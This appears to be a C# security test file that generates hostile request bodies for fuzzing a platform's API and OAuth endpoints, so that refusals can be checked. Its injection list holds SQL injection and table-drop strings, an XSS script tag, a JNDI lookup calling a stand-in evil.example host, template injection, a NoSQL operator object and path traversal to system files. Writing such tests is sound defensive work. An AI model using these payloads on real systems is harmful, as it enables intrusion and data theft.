using System.Globalization;
using System.Text;
using System.Text.Json.Nodes;

namespace Platform.Security.Tests;

/// <summary>
/// One hostile request body (or path) and what it tries. <paramref name="Finding"/>: the platform accepts it today and
/// issue #17 tracks that (the test reports it instead of failing, and leaves it out of the "nothing stored" count).
/// <paramref name="Status"/> and <paramref name="Code"/>, when given: the refusal the input must meet (its status, and
/// the problem's <c>code</c>), where the corpus aims at one rule rather than at the parser.
/// </summary>
public sealed record BadInput(string Name, Func<HttpContent?> Body, string? Path = null, string? Finding = null, int? Status = null, string? Code = null);

/// <summary>
/// The bad-input corpus, generated from one valid body per endpoint so that every refusal is the mutation's doing:
/// malformed and truncated JSON, the wrong top-level type and content type, a body deeper than any parser should
/// follow, a body over the endpoint's size limit, duplicate keys, a lone surrogate, and for each property the wrong
/// JSON type, an embedded NUL and (for numbers and dates) values at the ends of their range.
/// </summary>
public static class BadInputs
{
    public const string NonBmp = "\U0001F600\U00010348"; // 😀 and Gothic hwair: two UTF-16 units each

    public const string EmptyBody = "an empty body";

    public static readonly string[] Injections =
    [
        "' OR '1'='1' --", "\"; DROP TABLE consents; --", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini",
    ];

    public static IEnumerable<BadInput> ForJson(string valid, long bodyLimit, string mediaType = "application/json")
    {
        HttpContent Raw(string text) => new StringContent(text, Encoding.UTF8, mediaType);
        var sample = JsonNode.Parse(valid)!.AsObject();
        var first = sample.First();

        yield return new(EmptyBody, () => Raw(""));
        yield return new("truncated JSON", () => Raw(valid[..^1]));
        yield return new("not JSON at all", () => Raw("this is not json"));
        yield return new("an array where an object belongs", () => Raw("[" + valid + "]"));
        yield return new("a number where an object belongs", () => Raw("42"));
        yield return new("JSON sent as text/plain", () => new StringContent(valid, Encoding.UTF8, "text/plain"));
        yield return new("nesting 10 000 levels deep", () => Raw("{\"deep\":" + new string('[', 10_000) + new string(']', 10_000) + "," + valid[1..]));
        yield return new($"a body over the {bodyLimit} byte limit", () => Raw("{\"padding\":\"" + new string('x', checked((int)bodyLimit) + 1024) + "\"," + valid[1..]));
        yield return new($"the key '{first.Key}' twice", () => Raw(valid[..^1] + ",\"" + first.Key + "\":" + first.Value!.ToJsonString() + "}"));
        yield return new("a lone surrogate", () => Raw(Replace(sample, StringProperty(sample) ?? first.Key, "\"\\ud800\"")));
        foreach (var (name, value) in sample)
        {
            foreach (var (what, replacement) in Mutations(value))
            {
                yield return new($"{name}: {what}", () => Raw(Replace(sample, name, replacement)));
            }
        }
    }

    /// <summary>The wrong type for the property, a NUL inside it, and the ends of a number's or date's range.</summary>
    private static IEnumerable<(string What, string Json)> Mutations(JsonNode? value)
    {
        switch (value)
        {
            case JsonValue v when v.TryGetValue<string>(out var text):
                yield return ("a number instead of a string", "12345");
                yield return ("an object instead of a string", "{\"$ne\":null}");
                yield return ("a NUL inside", Quote(text + "\u0000x"));
                if (DateTimeOffset.TryParse(text, CultureInfo.InvariantCulture, DateTimeStyles.None, out _))
                {
                    yield return ("the year 1", "\"0001-01-01T00:00:00Z\"");
                    yield return ("the year 9999", "\"9999-12-31T23:59:59Z\"");
                    yield return ("February 30th", "\"2026-02-30T00:00:00Z\"");
                }
                break;
            case JsonValue v when v.TryGetValue<bool>(out _):
                yield return ("a string instead of a boolean", "\"yes\"");
                break;
            case JsonValue:
                yield return ("a string instead of a number", "\"twelve\"");
                yield return ("1e400", "1e400");
                yield return ("-1", "-1");
                yield return ("2^63", "9223372036854775808");
                break;
            case JsonArray array:
                yield return ("a string instead of an array", "\"observation\"");
                yield return ("numbers inside the array", "[12345]");
                if (array.Count > 0 && array[0] is JsonValue item && item.TryGetValue<string>(out var element))
                {
                    yield return ("a NUL inside an element", "[" + Quote(element + "\u0000") + "]");
                }
                break;
            case JsonObject:
                yield return ("a string instead of an object", "\"x\"");
                yield return ("an array instead of an object", "[]");
                break;
        }
    }

    /// <summary>Form bodies for the OAuth endpoints: each field with a NUL, a non-BMP value, huge, twice; JSON instead of a form.</summary>
    public static IEnumerable<BadInput> ForForm(IReadOnlyList<KeyValuePair<string, string>> valid)
    {
        HttpContent Form(IEnumerable<KeyValuePair<string, string>> fields) => new FormUrlEncodedContent(fields);
        yield return new("JSON instead of a form", () => new StringContent("{\"grant_type\":\"client_credentials\"}", Encoding.UTF8, "application/json"));
        yield return new("a truncated percent escape", () => new StringContent(string.Join('&', valid.Select(f => $"{f.Key}={f.Value}")) + "%2", Encoding.UTF8, "application/x-www-form-urlencoded"));
        yield return new("a form over 1 MiB", () => Form([.. valid, new("padding", new string('x', 1024 * 1024 + 1))]));
        foreach (var (name, _) in valid)
        {
            yield return new($"{name} twice", () => Form([.. valid, new(name, valid.First(f => f.Key == name).Value + "-again")]));
            yield return new($"{name} with a NUL", () => Form(valid.Select(f => f.Key == name ? new KeyValuePair<string, string>(name, f.Value + "\u0000") : f)));
            yield return new($"{name} outside the BMP", () => Form(valid.Select(f => f.Key == name ? new KeyValuePair<string, string>(name, NonBmp) : f)));
            yield return new($"{name} as an injection", () => Form(valid.Select(f => f.Key == name ? new KeyValuePair<string, string>(name, Injections[0]) : f)));
        }
    }

    private static string? StringProperty(JsonObject sample) =>
        sample.FirstOrDefault(p => p.Value is JsonValue v && v.TryGetValue<string>(out _)).Key;

    /// <summary>The valid body with one property's value replaced by raw JSON text (which may be invalid on purpose).</summary>
    private static string Replace(JsonObject sample, string name, string json)
    {
        var parts = sample.Select(p => Quote(p.Key) + ":" + (p.Key == name ? json : p.Value?.ToJsonString() ?? "null"));
        return "{" + string.Join(",", parts) + "}";
    }

    private static string Quote(string text) => System.Text.Json.JsonSerializer.Serialize(text);
}
